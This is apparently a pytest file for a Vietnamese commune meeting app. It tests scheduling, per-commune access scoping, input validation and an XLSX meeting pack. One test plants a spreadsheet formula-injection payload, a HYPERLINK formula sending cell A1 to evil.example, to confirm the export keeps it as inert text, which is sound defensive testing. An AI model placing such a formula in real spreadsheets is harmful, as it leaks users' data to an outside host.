"""The giao ban pages through the real app: scope (another commune's meeting is "not found", and its
form refuses), bad input changes nothing, no conclusion before the meeting has begun, a recurrence is
saved, the XLSX has one row per village."""

from __future__ import annotations

import io
from datetime import UTC, datetime, timedelta

import openpyxl
from aiohttp.test_utils import TestClient
from sqlalchemy import func, select, update

from bot.app import App, build, stop
from models.election.reports import Actor
from models.giaoban.reports import save_report
from models.giaoban.rules import GiaobanRules
from models.giaoban.tables import GiaobanConclusion, GiaobanMeeting, GiaobanSchedule
from models.units.tables import Unit
from tests.bot.web.conftest import Demo, csrf_of, login, make_config
from texts.catalog import t


async def _count(app: App, table: type) -> int:
    async with app.sessions() as s:
        return (await s.execute(select(func.count()).select_from(table))).scalar_one()


async def _begin(app: App) -> None:
    """The meeting has begun (an hour ago)."""
    async with app.sessions() as s, s.begin():
        await s.execute(update(GiaobanMeeting).values(starts_at=datetime.now(UTC) - timedelta(hours=1)))


async def test_scope_bad_input_recurrence_and_xlsx(client: TestClient, web_app: App, demo: Demo) -> None:
    assert await login(client, "canbo1", demo.passwords["canbo1"]) == 303
    page = await (await client.get("/giaoban")).text()
    assert t("gb.web.none") in page
    csrf = csrf_of(page)
    day = (datetime.now(web_app.config.tz) + timedelta(days=2)).date().isoformat()
    form = {"csrf": csrf, "commune": demo.units["canbo1"], "date": day, "time": "8h", "place": "Nhà văn hóa"}
    resp = await client.post("/giaoban/schedule", data=form, allow_redirects=False)
    assert resp.status == 303
    meeting_url = resp.headers["Location"]
    for bad in ({"date": "mai"}, {"time": "25:00"}, {"commune": demo.units["canbo2"]}, {"date": "2001-01-01"}):
        assert (await client.post("/giaoban/schedule", data={**form, **bad}, allow_redirects=False)).status == 400
    assert await _count(web_app, GiaobanMeeting) == 1
    ok = await client.post("/giaoban/recurrence", data={**form, "kind": "monthly_nth", "weekday": "0", "nth": "1"})
    assert ok.status == 200 and 'id="recurrence-saved"' in await ok.text()
    assert "Hằng tháng, vào thứ … của tuần thứ …: Hai, 1 — 08:00, Nhà văn hóa" in await ok.text()
    assert (await client.post("/giaoban/recurrence", data={**form, "kind": "yearly"})).status == 400
    assert await _count(web_app, GiaobanSchedule) == 1

    xlsx = await client.get(meeting_url + "/pack.xlsx")
    rows = list(openpyxl.load_workbook(io.BytesIO(await xlsx.read())).active.iter_rows(values_only=True))  # type: ignore[union-attr]
    assert rows[4][:3] == (t("gb.pack.col_village"), t("gb.pack.col_reported"), t("gb.pack.col_attending"))
    assert len(rows) > 6 and all(r[1] == t("gb.pack.no") for r in rows[5:])
    early = await client.post(meeting_url + "/conclusion", data={"csrf": csrf, "text": "Làm đường liên thôn"})
    assert early.status == 400 and t("gb.refused.not_started") in await early.text()  # before the meeting
    assert 'id="conclusion-form"' not in await (await client.get(meeting_url)).text()
    await _begin(web_app)
    assert 'id="conclusion-form"' in await (await client.get(meeting_url)).text()
    short = await client.post(meeting_url + "/conclusion", data={"csrf": csrf, "text": "ok"})
    assert short.status == 400 and t("gb.refused.conclusion_empty") in await short.text()
    past = await client.post(meeting_url + "/conclusion", data={"csrf": csrf, "text": "Làm đường", "due": "2001-01-01"})
    assert past.status == 400
    assert await _count(web_app, GiaobanConclusion) == 0

    await client.post("/logout", data={"csrf": csrf})
    assert await login(client, "canbo2", demo.passwords["canbo2"]) == 303
    other = await client.get(meeting_url)
    assert other.status == 404
    csrf2 = csrf_of(await (await client.get("/giaoban")).text())
    sneaky = await client.post(meeting_url + "/conclusion", data={"csrf": csrf2, "text": "Việc của xã khác"})
    assert sneaky.status == 404 and (await client.get(meeting_url + "/pack.xlsx")).status == 404
    assert await _count(web_app, GiaobanConclusion) == 0


async def test_the_pack_xlsx_is_a_document_and_keeps_a_heads_formula_as_text(
        client: TestClient, web_app: App, demo: Demo) -> None:
    assert await login(client, "canbo1", demo.passwords["canbo1"]) == 303
    csrf = csrf_of(await (await client.get("/giaoban")).text())
    day = (datetime.now(web_app.config.tz) + timedelta(days=2)).strftime("%d/%m/%Y")
    resp = await client.post("/giaoban/schedule", data={"csrf": csrf, "commune": demo.units["canbo1"], "date": day,
                                                        "time": "08:00", "place": "Hội trường"},
                             allow_redirects=False)
    meeting_url = resp.headers["Location"]
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    async with web_app.sessions() as s, s.begin():
        meeting = (await s.execute(select(GiaobanMeeting))).scalar_one()
        village = (await s.execute(select(Unit).where(Unit.code == demo.heads[0][1]))).scalar_one()  # type: ignore[arg-type]
        await save_report(s, meeting, village.id, {"urgent": evil, "economy": "+84 912 345 678"},  # type: ignore[arg-type]
                          Actor(None, "web"), datetime.now(UTC), GiaobanRules())
    due = (datetime.now(web_app.config.tz) + timedelta(days=9)).strftime("%d/%m/%Y")
    await _begin(web_app)  # conclusions come once the meeting has begun (an hour ago)
    day = (datetime.now(web_app.config.tz) - timedelta(hours=1)).strftime("%d/%m/%Y")
    done = await client.post(meeting_url + "/conclusion", data={"csrf": csrf, "text": "@SUM(A1:A9) rà soát hộ nghèo",
                                                                "due": due}, allow_redirects=False)
    assert done.status == 303
    book = openpyxl.load_workbook(io.BytesIO(await (await client.get(meeting_url + "/pack.xlsx")).read()))
    sheet, tasks = book.worksheets
    assert sheet["A1"].value.startswith("TÀI LIỆU GIAO BAN") and sheet["A1"].font.b
    assert "Hội trường" in sheet["A2"].value and day in sheet["A2"].value  # the meeting's date and place
    assert sheet["A5"].font.b and sheet.freeze_panes == "A6" and sheet.auto_filter.ref.startswith("A5:")
    assert sheet.page_setup.orientation == "landscape" and sheet.page_setup.paperSize == 9
    assert sheet.print_title_rows == "$5:$5"
    cells = [c for row in sheet.iter_rows() for c in row if c.value]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no live formula anywhere
    formula = next(c for c in cells if c.value == evil)
    assert formula.data_type == "s" and formula.quotePrefix and formula.alignment.wrap_text
    phone = next(c for c in cells if c.value == "+84 912 345 678")
    assert not phone.quotePrefix  # a phone number cannot be a formula: left as it is
    assert tasks.title == t("gb.xlsx.sheet_conclusions") and tasks["A5"].value == t("gb.xlsx.col_no")
    task_rows = list(tasks.iter_rows(min_row=6, values_only=True))
    assert task_rows and all(r[1] == "@SUM(A1:A9) rà soát hộ nghèo" for r in task_rows)
    assert not [c.coordinate for row in tasks.iter_rows() for c in row if c.data_type == "f"]


async def test_in_quiet_hours_the_page_says_when_the_invitations_go_and_a_meeting_can_be_moved_or_cancelled(
        aiohttp_client, demo: Demo) -> None:  # type: ignore[no-untyped-def]
    config = make_config(demo.path, 0)
    local_now = datetime.now(config.tz)
    config.reminders.quiet_start = (local_now - timedelta(hours=1)).time().replace(second=0, microsecond=0)
    end_at = (local_now + timedelta(hours=2)).replace(second=0, microsecond=0)
    config.reminders.quiet_end = (end_at + timedelta(minutes=-end_at.minute % 15)).time()  # a sweep's time
    app = await build(config)
    try:
        client = await aiohttp_client(app.web_app)
        assert await login(client, "canbo1", demo.passwords["canbo1"]) == 303
        page = await (await client.get("/giaoban")).text()
        end = config.reminders.quiet_end.strftime("%H:%M")
        assert 'id="when-invites"' in page and "giờ yên tĩnh" in page and f"lúc {end}" in page
        csrf = csrf_of(page)
        day = (local_now + timedelta(days=2)).strftime("%d/%m/%Y")
        resp = await client.post("/giaoban/schedule", data={"csrf": csrf, "commune": demo.units["canbo1"],
                                                            "date": day, "time": "08:00", "place": "Hội trường"})
        meeting = await resp.text()
        assert resp.status == 200 and 'id="delivery"' in meeting and "giờ yên tĩnh" in meeting
        assert 'id="conclusion-later"' in meeting  # no conclusions before the meeting has begun
        async with app.sessions() as s, s.begin():
            planned = (await s.execute(select(GiaobanMeeting))).scalar_one().starts_at
        await _begin(app)
        url = resp.url.path
        begun = await (await client.get(url)).text()
        assert 'id="when-directives"' in begun  # the conclusion form says when its messages go, too
        async with app.sessions() as s, s.begin():
            await s.execute(update(GiaobanMeeting).values(starts_at=planned))  # back before the meeting
        bad = await client.post(url + "/change", data={"csrf": csrf, "date": "31/02/2026", "time": "08:00"})
        assert bad.status == 400
        new_day = (local_now + timedelta(days=3)).strftime("%d/%m/%Y")
        moved = await client.post(url + "/change", data={"csrf": csrf, "date": new_day, "time": "14:30",
                                                         "place": "Nhà văn hóa"})
        text = await moved.text()
        assert moved.status == 200 and 'id="changed"' in text and f"14:30 {new_day}" in text
        gone = await client.post(url + "/cancel", data={"csrf": csrf})
        assert gone.status == 200 and 'id="cancel-done"' in await gone.text()
        again = await client.post(url + "/cancel", data={"csrf": csrf})
        assert again.status == 400 and t("gb.refused.already_cancelled") in await again.text()
        async with app.sessions() as s:
            m = (await s.execute(select(GiaobanMeeting))).scalar_one()
        assert m.cancelled and m.place == "Nhà văn hóa"
    finally:
        await stop(app)
